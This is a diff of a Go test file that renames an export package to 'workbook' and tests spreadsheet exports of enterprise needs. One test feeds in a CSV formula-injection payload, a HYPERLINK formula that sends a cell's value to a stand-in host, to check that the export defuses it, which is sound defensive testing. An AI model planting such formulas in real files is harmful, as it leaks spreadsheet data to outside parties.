@@ -1,4 +1,4 @@
-package export_test
+package workbook_test
 
 import (
 	"archive/zip"
@@ -11,15 +11,15 @@ import (
 
 	"github.com/pocketbase/pocketbase/core"
 
-	"feidi/hooks/apptest"
-	"feidi/hooks/export"
-	"feidi/hooks/export/exporttest"
-	"feidi/hooks/tz"
+	"feidi/hooks/lib/apptest"
+	"feidi/hooks/lib/tz"
+	"feidi/hooks/lib/workbook"
+	"feidi/hooks/lib/workbook/workbooktest"
 )
 
-func needsExport(t *testing.T, f export.Format, setup func(app core.App, ent func(name, uscc string) string, need func(ent string, fields map[string]any))) []byte {
+func needsExport(t *testing.T, f workbook.Format, setup func(app core.App, ent func(name, uscc string) string, need func(ent string, fields map[string]any))) []byte {
 	app := apptest.New(t)
-	officer := exporttest.User(t, app, "officer@example.com", "officer")
+	officer := workbooktest.User(t, app, "officer@example.com", "officer")
 	col := func(name string) *core.Collection {
 		c, err := app.FindCollectionByNameOrId(name)
 		if err != nil {
@@ -49,12 +49,12 @@ func needsExport(t *testing.T, f export.Format, setup func(app core.App, ent fun
 	}
 	setup(app, ent, need)
 	now := time.Now().In(tz.Shanghai).Format("2006-01")
-	p, err := export.ParsePeriod(now, now)
+	p, err := workbook.ParsePeriod(now, now)
 	if err != nil {
 		t.Fatal(err)
 	}
 	var buf bytes.Buffer
-	if _, err := export.Needs(context.Background(), app.DB(), p, &buf, export.Options{Format: f}); err != nil {
+	if _, err := workbook.Needs(context.Background(), app.DB(), p, &buf, workbook.Options{Format: f}); err != nil {
 		t.Fatal(err)
 	}
 	return buf.Bytes()
@@ -63,7 +63,7 @@ func needsExport(t *testing.T, f export.Format, setup func(app core.App, ent fun
 // Two enterprises with the same name (names are not unique; USCCs are): their needs interleave
 // in (name, id) order; each must still be one row of 企业.
 func TestNeedsOfSameNamedEnterprisesStayApart(t *testing.T) {
-	data := needsExport(t, export.XLSX, func(app core.App, ent func(string, string) string, need func(string, map[string]any)) {
+	data := needsExport(t, workbook.XLSX, func(app core.App, ent func(string, string) string, need func(string, map[string]any)) {
 		a := ent("大足五金厂", "91500111MA5U000013")
 		b := ent("大足五金厂", "91350100M000100Y43")
 		for i := 0; i < 6; i++ {
@@ -83,7 +83,7 @@ func TestNeedsOfSameNamedEnterprisesStayApart(t *testing.T) {
 // A deadline stored as an instant (Shanghai midnight sent by a device) is a day in Shanghai,
 // as the sharing event says (tz.AsDay).
 func TestNeedsDeadlineIsAShanghaiDay(t *testing.T) {
-	data := needsExport(t, export.CSV, func(app core.App, ent func(string, string) string, need func(string, map[string]any)) {
+	data := needsExport(t, workbook.CSV, func(app core.App, ent func(string, string) string, need func(string, map[string]any)) {
 		need(ent("大足五金厂", "91500111MA5U000013"), map[string]any{"deadline": "2026-12-30 16:00:00.000Z"})
 	})
 	zr, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
@@ -102,7 +102,7 @@ func TestNeedsDeadlineIsAShanghaiDay(t *testing.T) {
 
 // A title starting with "=" would be a formula in Excel or WPS: the CSV defuses it.
 func TestCSVTextNeverRunsAsAFormula(t *testing.T) {
-	data := needsExport(t, export.CSV, func(app core.App, ent func(string, string) string, need func(string, map[string]any)) {
+	data := needsExport(t, workbook.CSV, func(app core.App, ent func(string, string) string, need func(string, map[string]any)) {
 		need(ent("大足五金厂", "91500111MA5U000013"), map[string]any{"title": `=HYPERLINK("http://evil.example/?x="&A2,"点击")`})
 	})
 	zr, _ := zip.NewReader(bytes.NewReader(data), int64(len(data)))
